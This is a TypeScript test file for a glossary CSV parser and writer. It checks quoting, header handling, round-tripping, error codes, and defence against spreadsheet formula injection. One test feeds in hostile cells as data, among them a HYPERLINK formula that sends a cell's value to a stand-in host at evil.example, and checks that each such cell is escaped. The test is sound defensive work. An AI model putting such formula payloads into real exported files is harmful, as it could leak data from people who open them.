import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { GlossaryTerm } from '../../shared/glossary/types.js';
import { failure } from '../testing/failure.js';
import { parseGlossaryCsv, writeGlossaryCsv } from './csv.js';

const fail = (fn: () => unknown) => failure(Promise.resolve().then(fn));

function term(source: string, target: string, extra: Partial<GlossaryTerm> = {}): GlossaryTerm {
  return {
    id: source,
    sourceLang: 'en',
    targetLang: 'es',
    source,
    target,
    note: '',
    definition: '',
    forbidden: [],
    caseSensitive: false,
    createdAt: 'a',
    updatedAt: 'a',
    ...extra,
  };
}

describe('glossary CSV', () => {
  it('reads RFC 4180: quoted fields, doubled quotes, commas and line breaks inside quotes, CRLF, a BOM', () => {
    const csv =
      '\uFEFFsource,target,note,forbidden,case_sensitive\r\n' +
      '"European Union","Unión Europea","Say ""UE"" only in headlines, never in text","UE | Unión",no\r\n' +
      'US,EE. UU.,"two\nlines",,yes\r\n';
    expect(parseGlossaryCsv(csv)).toEqual([
      {
        row: 2,
        input: {
          source: 'European Union',
          target: 'Unión Europea',
          note: 'Say "UE" only in headlines, never in text',
          forbidden: ['UE', 'Unión'],
          caseSensitive: false,
        },
      },
      // Rows as a spreadsheet numbers them: the quoted line break stays in row 2.
      { row: 3, input: { source: 'US', target: 'EE. UU.', note: 'two\nlines', forbidden: [], caseSensitive: true } },
    ]);
  });

  it('accepts columns in any order, other header spellings, semicolons, and only source and target', () => {
    expect(parseGlossaryCsv('Target Term;Source Term\nUnión Europea;European Union\n')).toEqual([
      { row: 2, input: { source: 'European Union', target: 'Unión Europea', note: '', forbidden: [], caseSensitive: false } },
    ]);
  });

  it('round-trips what it writes', () => {
    const terms = [
      term('European Union', 'Unión Europea', { note: 'Comma, "quotes" and\nnewline', forbidden: ['UE', 'Unión'] }),
      term('US', 'EE. UU.', { caseSensitive: true, definition: 'United States, "USA".' }),
      term(' =lead', 'x', { definition: '=not a formula' }),
    ];
    const csv = writeGlossaryCsv(terms);
    expect(csv.startsWith('source,target,note,forbidden,case_sensitive,definition\r\n')).toBe(true);
    expect(parseGlossaryCsv(csv).map((r) => r.input)).toEqual(
      terms.map((t) => ({
        source: t.source,
        target: t.target,
        note: t.note,
        definition: t.definition,
        forbidden: t.forbidden,
        caseSensitive: t.caseSensitive,
      })),
    );
    // A file without the definition column gives no definition (an import keeps stored ones).
    expect(parseGlossaryCsv('source,target\r\nUS,EE. UU.\r\n')[0]?.input).not.toHaveProperty('definition');
  });

  it('neutralises formula starts (OWASP): = + - @ tab CR get a leading apostrophe, and Verso reads back exactly the text', () => {
    const hostile = [
      term('=HYPERLINK("http://evil.example/?x="&A1,"click")', 'x'),
      term('+1+1', '-2+3', { note: '@SUM(A1:A9)' }),
      term('ok', 'fine', { note: '\t=1+1', forbidden: ['=cmd'] }),
      term('cr', 'x', { note: '\r=1+1' }),
      term("'=already quoted", "'plain apostrophe", { note: "''-twice" }),
      term('under-score', 'a-b', { note: 'x = y' }),
    ];
    const csv = writeGlossaryCsv(hostile);
    const cells = parse(csv).slice(1);
    expect(cells[0]![0]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(cells[1]!.slice(0, 3)).toEqual(["'+1+1", "'-2+3", "'@SUM(A1:A9)"]);
    expect(cells[2]!.slice(2, 4)).toEqual(["'\t=1+1", "'=cmd"]);
    expect(cells[3]![2]).toBe("'\r=1+1");
    // An apostrophe the text already had before a formula start gets one more, so reading back is exact.
    expect(cells[4]!.slice(0, 3)).toEqual(["''=already quoted", "'plain apostrophe", "'''-twice"]);
    expect(cells[5]!.slice(0, 3)).toEqual(['under-score', 'a-b', 'x = y']);
    // No cell a spreadsheet would evaluate.
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const back = parseGlossaryCsv(csv).map((r) => [r.input.source, r.input.target, r.input.note, r.input.forbidden]);
    expect(back).toEqual([
      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 'x', '', []],
      ['+1+1', '-2+3', '@SUM(A1:A9)', []],
      // Read back exactly; storing trims the note's tab, and the next export guards it again.
      ['ok', 'fine', '\t=1+1', ['=cmd']],
      ['cr', 'x', '\r=1+1', []],
      ["'=already quoted", "'plain apostrophe", "''-twice", []],
      ['under-score', 'a-b', 'x = y', []],
    ]);
  });

  it('refuses broken CSV, a missing header and bad flags with the line', async () => {
    expect(await fail(() => parseGlossaryCsv('source,target\n"open quote,x\n'))).toMatchObject({ code: 'GLOSSARY_CSV_INVALID' });
    expect(await fail(() => parseGlossaryCsv('source,target\na,b,c\n'))).toMatchObject({
      code: 'GLOSSARY_CSV_INVALID',
      details: { line: 2 },
    });
    expect(await fail(() => parseGlossaryCsv('European Union,Unión Europea\n'))).toMatchObject({ code: 'GLOSSARY_CSV_HEADER' });
    expect(await fail(() => parseGlossaryCsv('source,target,case_sensitive\na,b,maybe\n'))).toMatchObject({
      code: 'GLOSSARY_IMPORT_ROW_INVALID',
      details: { row: 2, field: 'case_sensitive' },
    });
    expect(await fail(() => parseGlossaryCsv(''))).toMatchObject({ code: 'GLOSSARY_IMPORT_EMPTY' });
  });
});
